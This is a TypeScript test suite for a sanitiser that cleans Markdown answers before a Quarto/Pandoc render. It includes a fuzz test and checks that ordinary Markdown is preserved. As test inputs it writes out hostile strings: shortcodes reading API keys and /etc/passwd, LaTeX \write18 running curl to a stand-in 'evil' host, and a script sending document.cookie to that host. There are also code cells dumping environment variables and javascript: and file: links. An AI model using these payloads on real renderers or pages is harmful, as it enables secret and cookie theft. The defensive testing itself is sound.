import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Attr, Block, PandocDocument } from './pandoc-ast.ts';
import { PandocEngine } from './pandoc-engine.ts';
import {
  ZWSP,
  breakShortcodes,
  breakText,
  fallbackMarkdown,
  prepareMarkdown,
  safeUrl,
  sanitizeDocument,
  verifySanitized,
  type NeutralisedKind,
} from './sanitize.ts';
import { isSafeTexMath } from './tex-math.ts';

const call = { timeoutMs: 30_000 };

/** Every `{t, c}` node of a document, depth first. */
function nodes(value: unknown, out: Block[] = []): Block[] {
  if (Array.isArray(value)) for (const v of value) nodes(v, out);
  else if (value && typeof value === 'object') {
    if (typeof (value as Block).t === 'string') out.push(value as Block);
    for (const v of Object.values(value)) nodes(v, out);
  }
  return out;
}

const FORBIDDEN = new Set(['RawBlock', 'RawInline', 'Image', 'Figure', 'Div', 'Span', 'Cite']);

/** Independent check of what "safe" means, on a document parsed the way Quarto parses it. */
function assertSafe(doc: PandocDocument, text: string): void {
  assert.deepEqual(doc.meta, {}, 'no metadata');
  for (const node of nodes(doc.blocks)) {
    assert.ok(!FORBIDDEN.has(node.t), `no ${node.t} node`);
    if (node.t === 'Math') assert.ok(isSafeTexMath((node.c as [unknown, string])[1]), 'math is allowlisted');
    if (node.t === 'Link') {
      const [attr, , [url]] = node.c as [Attr, unknown, [string]];
      assert.match(url, /^(https?:\/\/|mailto:|#)/i, 'link target is http(s)/mailto/#');
      assert.ok(attr[0] === '' && attr[2].length === 0 && attr[1].every((c) => c === 'uri' || c === 'email'), 'link has no attributes');
    }
    if (node.t === 'Code') assert.deepEqual((node.c as [Attr])[0], ['', [], []], 'inline code has no attributes');
    if (node.t === 'CodeBlock') {
      const [id, classes, kv] = (node.c as [Attr])[0];
      assert.equal(id, '');
      assert.deepEqual(kv, []);
      assert.ok(classes.length <= 1 && classes.every((c) => /^[a-z][a-z0-9_+-]*$/.test(c)), `plain language class: ${classes}`);
    }
    if (node.t === 'Header') {
      const [, classes, kv] = (node.c as [number, Attr])[1];
      assert.deepEqual([classes, kv], [[], []], 'header has no classes or attributes');
    }
  }
  assert.doesNotMatch(text, /\{\{\s*[<%]/, 'no shortcode in the text');
  assert.doesNotMatch(text, /^[ \t>]*(`{3,}|~{3,})[ \t]*\{/m, 'no Quarto cell fence in the text');
}

describe('sanitiser: pure parts', () => {
  it('removes the answer\'s own front matter and counts it', () => {
    const { text, report } = prepareMarkdown('---\ntitle: x\nheader-includes: \\input{/etc/passwd}\n---\n\n# Answer\n');
    assert.equal(text, '\n# Answer\n');
    assert.equal(report['front-matter'], 1);
  });

  it('keeps a horizontal rule that is not front matter', () => {
    assert.equal(prepareMarkdown('Intro\n\n---\n\nMore').text, 'Intro\n\n---\n\nMore');
  });

  it('turns Quarto cell fences into plain code fences', () => {
    const { text, report } = prepareMarkdown('```{python}\n#| echo: false\nimport os\n```\n\n~~~{R echo=FALSE}\n1\n~~~');
    assert.equal(text, '```python\n#| echo: false\nimport os\n```\n\n~~~r\n1\n~~~');
    assert.equal(report['code-cell'], 2);
  });

  it('breaks every form of shortcode and is idempotent', () => {
    for (const s of ['{{< env GEMINI_API_KEY >}}', '{{{< include /etc/passwd >}}}', '{{% meta x %}}', '{{ < var y > }}']) {
      const broken = breakShortcodes(s);
      assert.doesNotMatch(broken, /\{\{\s*[<%]/, s);
      assert.equal(broken.replaceAll(ZWSP, ''), s, 'only zero-width spaces were added');
      assert.equal(breakShortcodes(broken), broken);
    }
  });

  it('leaves template braces that are not shortcodes alone', () => {
    assert.equal(breakShortcodes('{{ .Name }} and {{name}}'), '{{ .Name }} and {{name}}');
  });

  it('breaks attribute, div and citation syntax in text, idempotently', () => {
    const broken = breakText('{=html} ::: @doe mail bob@example.com');
    assert.equal(broken, `{${ZWSP}=html} :${ZWSP}:: @${ZWSP}doe mail bob@example.com`);
    assert.equal(breakText(broken), broken);
  });

  it('keeps http(s), mailto and fragment links and refuses every other scheme', () => {
    assert.equal(safeUrl('https://example.com/a?b=c'), 'https://example.com/a?b=c');
    assert.equal(safeUrl('mailto:bob@example.com'), 'mailto:bob@example.com');
    assert.equal(safeUrl('#section'), '#section');
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', '/etc/passwd', '../secret.qmd', 'data:text/html,x', 'vbscript:x']) {
      assert.equal(safeUrl(url), undefined, url);
    }
  });

  it('percent-encodes characters Quarto could expand in a link target', () => {
    assert.equal(safeUrl('https://x/{{<env K>}}'), 'https://x/%7B%7B%3Cenv%20K%3E%7D%7D');
  });

  it('drops node types it does not know (fails closed)', () => {
    const doc: PandocDocument = { 'pandoc-api-version': [1, 23, 1], meta: {}, blocks: [{ t: 'FutureBlock', c: 'x' }, { t: 'Para', c: [{ t: 'FutureInline' }] }] };
    const { doc: clean, report } = sanitizeDocument(doc);
    assert.deepEqual(clean.blocks, [{ t: 'Para', c: [] }]);
    assert.equal(report['unknown-node'], 2);
  });

  it('drops all metadata', () => {
    const doc: PandocDocument = { 'pandoc-api-version': [1, 23, 1], meta: { 'header-includes': { t: 'MetaString', c: 'x' } }, blocks: [] };
    const { doc: clean, report } = sanitizeDocument(doc);
    assert.deepEqual(clean.meta, {});
    assert.equal(report.metadata, 1);
  });

  it('verification flags a raw node, a shortcode and a cell fence', () => {
    const raw: PandocDocument = { 'pandoc-api-version': [1, 23, 1], meta: {}, blocks: [{ t: 'Para', c: [{ t: 'RawInline', c: ['html', '<b>'] }] }] };
    assert.match(verifySanitized('<b>', raw).join(), /raw-inline/);
    const empty: PandocDocument = { 'pandoc-api-version': [1, 23, 1], meta: {}, blocks: [] };
    assert.match(verifySanitized('a {{< env X >}}', empty).join(), /shortcode/);
    assert.match(verifySanitized('```{r}\n1\n```', empty).join(), /cell fence/);
    assert.deepEqual(verifySanitized('plain', empty), []);
  });

  it('fallback wraps the answer in a fence longer than any backtick run inside', () => {
    const md = fallbackMarkdown('a ````` b\n```{r}\nx\n```');
    assert.ok(md.startsWith('``````\n') && md.endsWith('\n``````\n'));
    assert.doesNotMatch(md, /^`{3,}\{/m);
  });
});

describe('sanitiser: hostile constructs, parsed by Pandoc', () => {
  let engine: PandocEngine;
  before(() => {
    engine = new PandocEngine();
  });
  after(() => engine.close());

  const cases: Array<{ name: string; input: string; kind: NeutralisedKind; gone?: RegExp; kept?: RegExp }> = [
    { name: 'env shortcode', input: 'Key: {{< env GEMINI_API_KEY >}}', kind: 'shortcode' },
    { name: 'include shortcode', input: '{{< include /etc/passwd >}}', kind: 'shortcode' },
    { name: 'meta and var shortcodes', input: '{{< meta title >}} {{< var secret >}}', kind: 'shortcode' },
    { name: 'escaped shortcode', input: '{{{< env HOME >}}}', kind: 'shortcode' },
    { name: 'shortcode inside inline code', input: 'Run `{{< env GEMINI_API_KEY >}}` now', kind: 'shortcode' },
    { name: 'shortcode inside a code block', input: '```\n{{< include /etc/passwd >}}\n```', kind: 'shortcode' },
    { name: 'raw LaTeX block', input: '```{=latex}\n\\input{/etc/passwd}\n```', kind: 'raw-block' },
    { name: 'raw HTML block', input: '```{=html}\n<script>alert(1)</script>\n```', kind: 'raw-block' },
    { name: 'inline raw TeX attribute', input: 'x `\\input{/etc/passwd}`{=tex} y', kind: 'raw-inline' },
    { name: 'inline raw HTML attribute', input: 'x `<img src=x onerror=alert(1)>`{=html} y', kind: 'raw-inline' },
    { name: 'raw \\input', input: 'See \\input{/etc/passwd} here', kind: 'raw-inline' },
    { name: 'raw \\write18 block', input: '\\immediate\\write18{curl http://evil}', kind: 'raw-block' },
    { name: 'raw \\openin and \\read', input: '\\openin5=/etc/passwd\n\\read5 to \\x', kind: 'raw-inline' },
    { name: 'raw \\catcode', input: 'a \\catcode`\\^=0 b', kind: 'raw-inline' },
    { name: 'raw \\include', input: '\\include{secret}', kind: 'raw-block' },
    { name: 'script tag', input: '<script>fetch("http://evil/"+document.cookie)</script>', kind: 'raw-block' },
    { name: 'iframe', input: 'a <iframe src="http://evil"></iframe> b', kind: 'raw-inline' },
    { name: 'remote img tag', input: 'a <img src="http://evil/pixel.png"> b', kind: 'raw-inline' },
    { name: 'link tag', input: '<link rel="stylesheet" href="http://evil/x.css">', kind: 'raw-inline' },
    { name: 'object tag', input: '<object data="file:///etc/passwd"></object>', kind: 'raw-block' },
    { name: 'HTML comment', input: '<!-- hidden instructions -->', kind: 'raw-block' },
    { name: 'R cell', input: '```{r}\nSys.getenv("GEMINI_API_KEY")\n```', kind: 'code-cell', kept: /Sys\.getenv/ },
    { name: 'Python cell with options', input: '```{python}\n#| echo: false\nimport os; print(os.environ)\n```', kind: 'code-cell' },
    { name: 'OJS cell', input: '```{ojs}\nfetch("http://evil")\n```', kind: 'code-cell' },
    { name: 'mermaid cell', input: '```{mermaid}\ngraph TD; A-->B\n```', kind: 'code-cell' },
    { name: 'inline Python expression', input: 'Value: `{python} os.environ`', kind: 'inline-expression' },
    { name: 'inline R expression', input: 'Value: `r Sys.getenv("K")`', kind: 'inline-expression' },
    { name: 'front matter', input: '---\nformat:\n  html:\n    include-in-header: /etc/passwd\n---\n\nText', kind: 'front-matter' },
    { name: 'remote image', input: '![tracking pixel](http://evil/p.png)', kind: 'image', kept: /tracking pixel/, gone: /evil/ },
    { name: 'local image', input: '![passwd](/etc/passwd)', kind: 'image', gone: /etc\/passwd/ },
    { name: 'reference image', input: '![x][r]\n\n[r]: https://evil/p.png', kind: 'image', gone: /evil/ },
    { name: 'attribute that loads a file', input: '::: {include-in-header="/etc/passwd"}\nhi\n:::', kind: 'attributes', gone: /passwd/ },
    { name: 'css attribute', input: '[x]{style="background:url(file:///etc/passwd)"}', kind: 'attributes', gone: /passwd/ },
    { name: 'code block include attribute', input: '```{.python include="/etc/passwd"}\nx\n```', kind: 'attributes', gone: /passwd/ },
    { name: 'header attributes', input: '# Title {#t .unnumbered css="x.css"}', kind: 'attributes', gone: /css/ },
    { name: 'javascript link', input: '[click](javascript:alert(1))', kind: 'unsafe-link', kept: /click/, gone: /javascript/ },
    { name: 'file link', input: '[secrets](file:///etc/shadow)', kind: 'unsafe-link', gone: /shadow/ },
    { name: 'math with \\input', input: 'Let $\\input{/etc/passwd}$ be', kind: 'unsafe-math' },
    { name: 'display math with \\write18', input: '$$\\immediate\\write18{id}$$', kind: 'unsafe-math' },
    { name: 'citation', input: 'As [@smith2020] shows', kind: 'citation' },
  ];

  for (const c of cases) {
    it(`neutralises ${c.name}`, async () => {
      const out = await engine.sanitize(c.input, call);
      assert.equal(out.fallback, false, `verification passed (${out.problems.join('; ')})`);
      assert.ok((out.report[c.kind] ?? 0) >= 1, `reported ${c.kind}: ${JSON.stringify(out.report)}`);
      assertSafe(await engine.parse(out.markdown, 'markdown', call), out.markdown);
      if (c.gone) assert.doesNotMatch(out.markdown, c.gone);
      if (c.kept) assert.match(out.markdown, c.kept);
    });
  }

  it('keeps ordinary Markdown intact', async () => {
    const ordinary = [
      '# Summary',
      '',
      'Some *emphasis*, **strong** text, `inline code` and a [link](https://example.com/docs).',
      'Mail bob@example.com for details.',
      '',
      '## Steps',
      '',
      '1. First step',
      '2. Second step',
      '   - nested item',
      '   - another',
      '',
      '> A quote with a footnote.[^1]',
      '',
      '| Name | Value |',
      '|------|------:|',
      '| a    | 1     |',
      '| b    | 2     |',
      '',
      '```python',
      'def f(x: dict) -> str:',
      '    return f"{x}" + "<b>" + "\\\\input"',
      '```',
      '',
      'Inline math $E = mc^2$ and display:',
      '',
      '$$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$',
      '',
      '---',
      '',
      '[^1]: The footnote.',
      '',
    ].join('\n');
    const out = await engine.sanitize(ordinary, call);
    assert.deepEqual(out.report, {});
    // Pandoc's writer turns a default column alignment into an explicit left one; nothing else moves.
    const normalise = (doc: PandocDocument) => JSON.parse(JSON.stringify(doc.blocks).replaceAll('"AlignLeft"', '"AlignDefault"')) as unknown;
    const original = normalise(await engine.parse(ordinary, 'markdown', call));
    assert.deepEqual(normalise(await engine.parse(out.markdown, 'markdown', call)), original);
  });

  it('keeps the text of code blocks byte for byte', async () => {
    const code = 'const o = {a: 1, b: [2]};\nif (a < b && c > d) { $x = "\\\\n"; }\n<div class="x">{{ name }}</div>';
    const out = await engine.sanitize(`Example:\n\n\`\`\`js\n${code}\n\`\`\`\n`, call);
    const parsed = await engine.parse(out.markdown, 'markdown', call);
    const block = nodes(parsed.blocks).find((n) => n.t === 'CodeBlock');
    assert.deepEqual(block?.c, [['', ['js'], []], code]);
  });

  it('does not let an unclosed fence hide raw HTML after it', async () => {
    const out = await engine.sanitize('```\nnot closed\n<script>alert(1)</script>', call);
    assertSafe(await engine.parse(out.markdown, 'markdown', call), out.markdown);
  });

  it('does not let a list item end a fence early to expose raw HTML', async () => {
    const out = await engine.sanitize('- item\n  ```\n- <script>alert(1)</script>\n', call);
    assertSafe(await engine.parse(out.markdown, 'markdown', call), out.markdown);
  });

  it('is safe for any mix of Markdown and hostile fragments (property)', async () => {
    const fragments = [
      '{', '}', '{{<', '>}}', '`', '```', '~~~', '{=html}', '{=latex}', '{r}', '{.x key=v}', '<script>', '</script>', '<b>',
      '\\input{x}', '$', '$$', '\\frac{a}{b}', '![a](http://e/x.png)', '[l](javascript:x)', '[t](https://ok)', '<http://x>',
      '@doe', '[@k]', ':::', '::: {.c}', '---', '\n', '\n\n', '    ', '- ', '1. ', '> ', '# ', '|', '|---|', '*', '_', '\\',
      '<!--', '-->', 'text', '^[note]', '[^1]', '[^1]: x', '{#id}', '<div>', '</div>', '`r ', '`{python} ', '#|', ':', '"',
    ];
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...fragments), { maxLength: 40 }), async (parts) => {
        const out = await engine.sanitize(parts.join(''), call);
        assertSafe(await engine.parse(out.markdown, 'markdown', call), out.markdown);
      }),
      { numRuns: 150 },
    );
  });

  it('the fallback re-parses as a single code block', async () => {
    const parsed = await engine.parse(fallbackMarkdown('x <script>a</script> {{< env K >}}\n```{r}\n1\n```'), 'markdown', call);
    assert.deepEqual(
      parsed.blocks.map((b) => b.t),
      ['CodeBlock'],
    );
  });
});
